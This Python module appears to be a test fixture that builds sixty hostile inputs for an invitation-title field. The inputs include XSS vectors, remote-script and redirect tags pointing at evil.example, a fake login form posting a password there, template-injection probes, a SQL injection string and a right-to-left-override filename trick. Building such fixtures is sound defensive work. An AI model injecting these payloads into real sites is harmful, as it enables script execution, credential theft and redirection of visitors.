"""Sixty texts that try to be more than text: anybody can invite anybody, under any title."""

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=//evil.example>Log in</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>click</a>",
)
_BREAKS = ("", '"', "'", '">', "'>", "</dd>", "</textarea>", "</title>", "-->", "]]>")
_OTHERS = (
    "{{ 7 * 7 }}",
    "{% print(7 * 7) %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)",
    "<scr<script>ipt>alert(1)",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "\u202etxt.exe\u202c",
    "<\u200bscript>alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "' OR '1'='1",
)

PAYLOADS = [f"{lead}{tag}" for tag, lead in zip(_TAGS, _BREAKS * 2, strict=True)]
PAYLOADS += [f"{lead} onmouseover=alert({number}) x={lead}" for number, lead in enumerate(_BREAKS * 2)]
PAYLOADS += _OTHERS
assert len(PAYLOADS) == 60
